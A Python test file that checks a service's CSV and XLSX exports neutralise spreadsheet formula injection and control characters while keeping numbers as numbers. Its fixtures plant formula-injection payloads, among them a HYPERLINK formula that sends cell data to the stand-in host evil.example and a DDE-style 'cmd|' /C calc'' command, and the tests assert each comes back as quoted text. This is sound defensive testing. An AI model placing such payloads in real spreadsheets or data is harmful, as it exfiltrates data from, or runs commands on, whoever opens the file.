"""Every CSV and XLSX download shows typed text as text: no cell becomes a live formula
and no control character breaks the download, while numbers stay numbers.

Formula-like text and control characters are planted into code names, a title, an
organisation name, a user's name and the target name, and every spreadsheet the
service writes is downloaded over HTTP and parsed (the CSV with `csv`, the XLSX with
openpyxl)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.orm import Session

from app.db.models import InvestmentTarget, Lead, Organization, User
from app.domain.access import Role
from app.domain.spreadsheets import spreadsheet_cell, typed_text
from tests.factories import Factory
from tests.reports.conftest import Known

# What is planted, and what a safe cell shows instead.
PLANTED = {
    "A": (
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    ),
    "B": ("+1", "'+1"),
    "C": ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    "D": ("\t=1+2", "'\t=1+2"),
}
ORG = ("-2+3\x07\x1b Oy", "'-2+3 Oy")
OWNER = ("=Owner\x0bOne", "'=OwnerOne")
TARGET = ("Target\x01 =2022", "Target =2022")
TITLE = ("\x07=cmd()", "'=cmd()")
PARAMS = {"as_of": "2026-01-15"}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _plant(db: Session, known: Known) -> None:
    for key, (code_name, _safe) in PLANTED.items():
        db.execute(update(Lead).where(Lead.id == known.leads[key].id).values(code_name=code_name))
    alpha = known.leads["A"]
    db.execute(update(Lead).where(Lead.id == alpha.id).values(title=TITLE[0]))
    db.execute(
        update(Organization).where(Organization.id == alpha.organization_id).values(name=ORG[0])
    )
    db.execute(update(User).where(User.id == alpha.owner_id).values(full_name=OWNER[0]))
    db.execute(
        update(InvestmentTarget)
        .where(InvestmentTarget.id == known.target.id)
        .values(name=TARGET[0])
    )
    db.commit()


def _xlsx(content: bytes) -> dict[str, list[tuple[Any, ...]]]:
    """Every sheet's values; fails if any cell holds a formula."""
    book = load_workbook(io.BytesIO(content))
    sheets = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
        sheets[sheet.title] = [tuple(c.value for c in row) for row in sheet.iter_rows()]
    return sheets


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def _no_control_characters(values: Any) -> None:
    for value in values:
        if isinstance(value, str):
            assert not any(ord(c) < 32 and c not in "\t\r\n" for c in value), repr(value)


def test_lead_exports_neutralise_formulas_and_keep_numbers(
    client: Any, factory: Factory, known: Known, db: Session
) -> None:
    _plant(db, known)
    _user, headers = factory.api_user(Role.COORDINATOR)

    response = client.get("/api/v1/leads/export.csv", headers=headers)
    assert response.status_code == 200, response.text
    rows = {r["code_name"]: r for r in _csv(response.text)}
    for _key, (_planted, safe) in PLANTED.items():
        assert safe in rows, (safe, list(rows))
    alpha = rows[PLANTED["A"][1]]
    assert alpha["title"] == TITLE[1]
    assert alpha["investor_organization"] == ORG[1]
    assert alpha["owner"] == OWNER[1]
    assert alpha["capex_eur"] == "240000000"
    for row in rows.values():
        _no_control_characters(row.values())

    response = client.get("/api/v1/leads/export.xlsx", headers=headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    sheet = _xlsx(response.content)["Leads"]
    header = list(sheet[0])
    by_code = {row[0]: dict(zip(header, row, strict=True)) for row in sheet[1:]}
    for _key, (_planted, safe) in PLANTED.items():
        assert safe in by_code
    alpha_cells = by_code[PLANTED["A"][1]]
    assert (alpha_cells["title"], alpha_cells["investor_organization"]) == (TITLE[1], ORG[1])
    # Numbers stay numbers, not neutralised text.
    assert alpha_cells["capex_eur"] == 240_000_000
    assert isinstance(alpha_cells["probability"], int)
    for row in sheet:
        _no_control_characters(row)


def test_forum_report_and_snapshot_workbooks_are_safe(
    client: Any, factory: Factory, known: Known, db: Session
) -> None:
    _plant(db, known)
    _viewer, viewer = factory.api_user(Role.FORUM_VIEWER)
    coordinator_user, coordinator = factory.api_user(Role.COORDINATOR)
    params = {**PARAMS, "target_id": str(known.target.id)}

    live = client.get("/api/v1/reports/forum.xlsx", params=params, headers=viewer)
    assert live.status_code == 200, live.text
    factory.login(client, coordinator_user)
    page = client.get("/reports/forum.xlsx", params=params)
    assert page.status_code == 200, page.text
    client.cookies.clear()
    created = client.post(
        "/api/v1/reports/snapshots",
        json={"target_id": str(known.target.id), "label": "=Forum", "as_of": "2025-12-31"},
        headers=coordinator,
    )
    assert created.status_code == 201, created.text
    stored = client.get(f"/api/v1/reports/snapshots/{created.json()['id']}.xlsx", headers=viewer)
    assert stored.status_code == 200

    for content in (live.content, page.content, stored.content):
        # Sheet names follow the reader's language: the summary is first, the leads last.
        sheets = list(_xlsx(content).values())
        summary, leads = sheets[0], sheets[-1]
        assert sorted(row[0] for row in leads[1:]) == sorted(s for _p, s in PLANTED.values())
        assert any(row[1:2] == (TARGET[1],) for row in summary)
        # The figures are still numbers.
        assert any(1_118_300_004 in row for row in summary)
        for rows in sheets:
            for row in rows:
                _no_control_characters(row)
                assert not any(isinstance(v, str) and v.startswith("=") for v in row), row


def test_templates_go_through_the_same_cells(client: Any, factory: Factory) -> None:
    _user, headers = factory.api_user(Role.COORDINATOR)
    template = client.get("/api/v1/site-packages/template.xlsx", headers=headers)
    assert template.status_code == 200
    sheets = _xlsx(template.content)
    assert len(sheets) == 2
    for kind in ("organizations", "contacts", "leads"):
        response = client.get(f"/api/v1/imports/{kind}/template.csv", headers=headers)
        assert response.status_code == 200
        assert response.text.endswith("\r\n") and response.text.count("\r\n") == 1
        header = next(csv.reader(io.StringIO(response.text)))
        assert header and all(not h.startswith(("=", "+", "-", "@")) for h in header)


def test_the_one_cell_function() -> None:
    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("\x00\x07=1") == "'=1"
    assert spreadsheet_cell("ok\x00\x07\x1b\ufffe") == "ok"
    assert spreadsheet_cell("\r=1") == "'\r=1"
    assert spreadsheet_cell("\uff1dSUM(A1)") == "'\uff1dSUM(A1)"
    assert spreadsheet_cell("line\nbreak\tand tab") == "line\nbreak\tand tab"
    assert spreadsheet_cell(-5) == -5
    assert spreadsheet_cell(-5.5) == -5.5
    assert spreadsheet_cell(None) is None
    assert spreadsheet_cell(True) is True
    assert spreadsheet_cell("Kajaani") == "Kajaani"
    # What the service wrote reads back as what was typed (templates, exports re-uploaded).
    for typed in ("=1+1", "+358 40 123", "-5", "@x", "Kajaani", "'quoted'"):
        assert typed_text(str(spreadsheet_cell(typed))) == typed


def test_every_writer_uses_the_one_function() -> None:
    """No module writes CSV or builds a workbook except through app.domain.spreadsheets."""
    root = Path(__file__).resolve().parents[2] / "app"
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "spreadsheets.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        source = path.read_text(encoding="utf-8")
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in ("writer", "DictWriter")
            ):
                offenders.append(f"{path.relative_to(root)}: csv.{node.attr}")
        if "Workbook(" in source and "app.domain.spreadsheets" not in source:
            offenders.append(f"{path.relative_to(root)}: a workbook without safe cells")
        for node in ast.walk(tree):
            # Rows reach a worksheet only through append_row.
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "append"
                and isinstance(node.func.value, ast.Name)
                and node.func.value.id in {"sheet", "summary", "guide", "worksheet", "ws"}
            ):
                offenders.append(f"{path.relative_to(root)}:{node.lineno}: direct append")
    assert offenders == []
